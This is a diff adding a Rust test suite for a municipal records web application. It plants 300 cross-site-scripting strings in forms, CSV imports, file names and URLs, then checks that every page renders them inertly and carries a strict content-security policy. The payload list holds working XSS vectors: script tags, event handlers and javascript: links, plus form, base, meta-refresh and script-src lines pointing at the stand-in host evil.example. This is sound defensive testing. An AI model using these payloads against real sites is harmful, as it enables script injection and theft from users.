@@ -1,0 +1,332 @@
+//! Text that wants to be more than text: three hundred ways to break out of a page, stored in every
+//! field that takes words, and every page read as a browser reads it. No element and no attribute
+//! of theirs may be there.
+
+use std::collections::BTreeSet;
+
+use axum::http::StatusCode;
+use enishi_domain::staff::Duty;
+use enishi_web::Security;
+use html5gum::{Token, Tokenizer};
+
+use crate::browser::{Answer, Browser, Town};
+use crate::importing::{handed_over, tried};
+use crate::routes::routes;
+
+/// What closes whatever the text may stand in.
+const BREAKS: [&str; 12] = [
+    "",
+    "\">",
+    "'>",
+    "\" ",
+    "</textarea>",
+    "</title></option></select>",
+    "</td></table>",
+    "</script>",
+    "--><!-->",
+    "]]>",
+    "&quot;&gt;",
+    "\u{2028}\\\"/>",
+];
+
+/// What would run then. Each carries an attribute or an element that no page of ours has.
+const LOADS: [&str; 25] = [
+    "<script canary>alert(1)</script>",
+    "<ScRiPt canary/src=//evil.example/x.js></sCrIpT>",
+    "<img canary src=x onerror=alert(1)>",
+    "<svg canary/onload=alert(1)>",
+    "<svg><canary/><animate onbegin=alert(1) attributeName=x>",
+    "<a canary href=javascript:alert(1)>x</a>",
+    "<a canary href=\"java&#9;script:alert(1)\">x</a>",
+    "<iframe canary srcdoc=\"<script>alert(1)</script>\">",
+    "<details canary open ontoggle=alert(1)>",
+    "<input canary autofocus onfocus=alert(1)>",
+    "<form canary action=https://evil.example/><button>送信</button>",
+    "<button canary formaction=https://evil.example/>送信</button>",
+    "<base canary href=https://evil.example/>",
+    "<meta canary http-equiv=refresh content=\"0;url=https://evil.example/\">",
+    "<link canary rel=stylesheet href=https://evil.example/x.css>",
+    "<style canary>@import url(https://evil.example/x.css)</style>",
+    "<object canary data=https://evil.example/></object>",
+    "<embed canary src=https://evil.example/>",
+    "<math><canary xlink:href=javascript:alert(1)>x</math>",
+    "<template canary><script>alert(1)</script></template>",
+    "<noscript canary><img src=x onerror=alert(1)></noscript>",
+    "<canary style=animation-name:x onanimationstart=alert(1)>",
+    "canary=1 onmouseover=alert(1) x=",
+    "<!--canary--!><canary>{{7*7}}${7*7}<%= 7*7 %>",
+    "＜script＞<canary>\u{202e}tpircs<\u{200b}script canary>",
+];
+
+/// All of them, each break before each load.
+fn corpus() -> Vec<String> {
+    let pairs = BREAKS
+        .iter()
+        .flat_map(|open| LOADS.iter().map(move |load| format!("{open}{load}")));
+    let corpus: Vec<String> = pairs.collect();
+    assert_eq!(corpus.len(), 300);
+    let different: BTreeSet<&String> = corpus.iter().collect();
+    assert_eq!(different.len(), 300);
+    corpus
+}
+
+/// Reads a page as a browser does, and refuses what no page of ours has.
+fn look_through(page: &Answer, path: &str) {
+    for token in Tokenizer::new(&page.text).flatten() {
+        let Token::StartTag(tag) = token else {
+            continue;
+        };
+        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
+        let name = text(&tag.name);
+        let mut attributes = tag.attributes.iter();
+        let is_ours = attributes.all(|(name, value)| {
+            let (name, value) = (text(name), text(value));
+            let is_address = ["href", "src", "action", "formaction"].contains(&name.as_str());
+            let is_here = ["/", "#", "?", ""].iter().any(|start| match *start {
+                "" => value.is_empty(),
+                start => value.starts_with(start),
+            });
+            let is_safe = !is_address || (is_here && !value.starts_with("//"));
+            !name.starts_with("on") && name != "canary" && name != "style" && is_safe
+        });
+        let is_foreign = [
+            "canary", "iframe", "object", "embed", "base", "style", "math", "animate", "template",
+        ];
+        assert!(
+            is_ours && !is_foreign.contains(&name.as_str()),
+            "{path}: <{name}> {:?}",
+            tag.attributes
+        );
+    }
+}
+
+/// Looks through everything that somebody can see, and gives in how many pages a text of theirs
+/// stands.
+async fn crawl(browser: &mut Browser, known: &[(&str, &str)], more: &[String]) -> usize {
+    let pages = routes().into_iter().filter(|route| route.reads);
+    let pages = pages.map(|route| route.address(known));
+    let mut struck = 0;
+    for path in pages.chain(more.iter().cloned()) {
+        let page = browser.get(&path).await;
+        assert!(!page.status.is_server_error(), "{path}");
+        if page.header("content-type").starts_with("text/html") {
+            look_through(&page, &path);
+        }
+        struck += usize::from(page.text.contains("canary"));
+    }
+    struck
+}
+
+/// Sends a form of a page, and takes a redirect or a refusal in words.
+async fn send(browser: &mut Browser, page: &str, path: &str, fields: &[(&str, &str)]) -> bool {
+    browser.get(page).await;
+    let answer = browser.post(path, fields).await;
+    assert!(!answer.status.is_server_error(), "{path}");
+    look_through(&answer, path);
+    answer.status == StatusCode::SEE_OTHER
+}
+
+async fn write_the_sheet(town: &Town, all: &str) {
+    let mut clerk = town.inside(Duty::Entry).await;
+    let mut planning = town.inside(Duty::Planning).await;
+    let statement = [
+        ("year", "R6"),
+        ("revision", "0"),
+        ("cause", all),
+        ("improvement", all),
+        ("outlook", all),
+    ];
+    let path = "/sheet/1/statements/1";
+    assert!(send(&mut clerk, "/sheet/1?year=R6", path, &statement).await);
+    let conflict = clerk.post(path, &statement).await;
+    look_through(&conflict, "a conflict of two texts");
+    let meeting = [
+        ("year", "R6"),
+        ("held_on", "R7.4.10"),
+        ("title", &all[..300]),
+        ("minutes", all),
+        ("industry", "1"),
+        ("academia", "1"),
+        ("residents", "0"),
+    ];
+    assert!(send(&mut planning, "/meeting?year=R6", "/meeting", &meeting).await);
+}
+
+/// A record for each, with the text in every field that takes one; and its correction.
+async fn record(town: &Town, corpus: &[String]) -> String {
+    let mut clerk = town.inside(Duty::Entry).await;
+    let mut kept = 0;
+    for (n, text) in corpus.iter().enumerate() {
+        let last = clerk.get("/entry/event.attend").await.hidden("last");
+        let telephone = format!("090-0000-{n:04}");
+        let fields = [
+            ("last", last.as_str()),
+            ("purpose", "event"),
+            ("事業", "1"),
+            ("活動", text.as_str()),
+            ("発生日", "R6.12.3"),
+            ("制度", text.as_str()),
+            ("本人_氏名・名称", text.as_str()),
+            ("本人_フリガナ", text.as_str()),
+            ("本人_住所", text.as_str()),
+            ("本人_電話番号", telephone.as_str()),
+        ];
+        let answer = clerk.post("/entry/event.attend", &fields).await;
+        look_through(&answer, text);
+        kept += usize::from(answer.status == StatusCode::SEE_OTHER);
+    }
+    assert_eq!(kept, corpus.len(), "each is kept as text");
+    let page = clerk.get("/ledger?year=R6&programme=1").await;
+    let (_, rest) = page.text.split_once("href=\"/ledger/E").unwrap();
+    let id = format!("E{}", rest.split('"').next().unwrap());
+    let form = clerk.get(&format!("/ledger/{id}/correct")).await;
+    let seen = form.hidden("seen");
+    let fields = [
+        ("seen", seen.as_str()),
+        ("reason", "entry_error"),
+        ("reason_text", &corpus[2]),
+        ("事業", "1"),
+        ("活動", &corpus[30]),
+        ("発生日", "R6.12.4"),
+        ("制度", &corpus[60]),
+    ];
+    let answer = clerk.post(&format!("/ledger/{id}/correct"), &fields).await;
+    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.text);
+    id
+}
+
+/// A register whose headings, name and rows are hostile, taken as far as it goes.
+async fn hand_over(town: &Town, corpus: &[String]) -> Vec<String> {
+    let mut planning = town.inside(Duty::Planning).await;
+    let cell = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
+    let hostile = cell(&corpus[27]);
+    let mut register = format!("受付番号,お名前,フリガナ,電話番号,開催日,出欠,事業,{hostile}\n");
+    for (n, text) in corpus.iter().enumerate() {
+        let name = cell(text);
+        let (twice, day) = (n / 2, "2024/10/3");
+        let row = format!("h{n},{name}{n},カクウ ハナコ,090-1111-{twice:04},{day},出席,1,{name}\n");
+        register.push_str(&row);
+    }
+    let mut paths = Vec::new();
+    for name in [
+        "<img src=x onerror=alert(1) canary>.csv",
+        "..%2f..%2f\u{202e}canary.csv",
+    ] {
+        let path = handed_over(&mut planning, "event-signup", name, register.as_bytes()).await;
+        look_through(&planning.get(&path).await, "the columns");
+        let check = tried(&mut planning, &path, "").await;
+        look_through(&check, "the check");
+        planning.post(&format!("{path}/commit"), &[]).await;
+        look_through(&planning.settled(&path).await, "what was taken in");
+        paths.push(path);
+    }
+    paths
+}
+
+#[tokio::test]
+async fn three_hundred_attacks_in_every_field_stay_text_on_every_page() {
+    let town = Town::new(Security::Tls).await;
+    let corpus = corpus();
+    write_the_sheet(&town, &corpus.join("\n")).await;
+    let id = record(&town, &corpus).await;
+    let deposits = hand_over(&town, &corpus).await;
+    let deposit = deposits[0].trim_start_matches("/imports/").to_owned();
+    for duty in [Duty::Entry, Duty::Planning, Duty::Panel, Duty::Audit] {
+        let mut browser = town.inside(duty).await;
+        browser.get("/").await;
+        let names = browser.post("/identity/names", &[]).await;
+        look_through(&names, "/identity/names");
+        let names = browser.post(&format!("/ledger/{id}/names"), &[]).await;
+        look_through(&names, "/ledger/names");
+        let known = [
+            ("id", id.as_str()),
+            ("kind", "event.attend"),
+            ("no", "1"),
+            ("kpi", "1"),
+        ];
+        let more = [
+            format!("/imports/{deposit}"),
+            "/sheet?year=R6".to_owned(),
+            "/sheet/1?year=R6".to_owned(),
+            "/meeting?year=R6".to_owned(),
+            "/programmes/1?year=R6".to_owned(),
+            "/programmes/1/kpis/1?year=R6".to_owned(),
+            "/programmes/1/kpis/2?year=R6".to_owned(),
+            "/ledger?year=R6&programme=1".to_owned(),
+            "/ledger?year=R6&programme=1&kind=event.attend".to_owned(),
+        ];
+        let struck = crawl(&mut browser, &known, &more).await;
+        let expected = match duty {
+            Duty::Entry | Duty::Planning => 10,
+            Duty::Head | Duty::Panel | Duty::Audit | Duty::Administration => 3,
+        };
+        assert!(struck >= expected, "{duty:?} was shown {struck} of them");
+    }
+}
+
+#[tokio::test]
+async fn an_address_is_text_too() {
+    let town = Town::new(Security::Tls).await;
+    let mut planning = town.inside(Duty::Planning).await;
+    let mut stranger = town.browser();
+    for text in corpus().iter().step_by(7) {
+        let mut written = form_urlencoded::Serializer::new(String::new());
+        for name in [
+            "year",
+            "programme",
+            "next",
+            "done",
+            "kind",
+            "import",
+            "list",
+            "behind",
+            "carried",
+        ] {
+            written.append_pair(name, text);
+        }
+        let query = written.finish();
+        for path in [
+            "/",
+            "/sheet",
+            "/ledger",
+            "/identity",
+            "/meeting",
+            "/entry",
+            "/closings",
+        ] {
+            let page = planning.get(&format!("{path}?{query}")).await;
+            assert!(!page.status.is_server_error(), "{path}?{query}");
+            look_through(&page, path);
+        }
+        let page = stranger.get(&format!("/login?{query}")).await;
+        look_through(&page, "/login");
+    }
+}
+
+#[tokio::test]
+async fn every_answer_of_every_address_carries_the_policy() {
+    let town = Town::new(Security::Tls).await;
+    let mut planning = town.inside(Duty::Planning).await;
+    let mut stranger = town.browser();
+    let mut answers = 0;
+    for route in routes() {
+        for address in [route.address(&[]), format!("{}/x", route.address(&[]))] {
+            for browser in [&mut planning, &mut stranger] {
+                let got = browser.get(&address).await;
+                let sent = browser.post_with(&address, &[], &[]).await;
+                for answer in [got, sent] {
+                    let policy = answer.header("content-security-policy");
+                    assert!(
+                        policy.starts_with("default-src 'none'; script-src 'self'"),
+                        "{address}: {policy}"
+                    );
+                    assert!(policy.contains("frame-ancestors 'none'; base-uri 'none'"));
+                    assert!(!policy.contains("unsafe"), "{address}");
+                    assert_eq!(answer.header("x-content-type-options"), "nosniff");
+                    answers += 1;
+                }
+            }
+        }
+    }
+    assert!(answers > 300, "{answers}");
+}
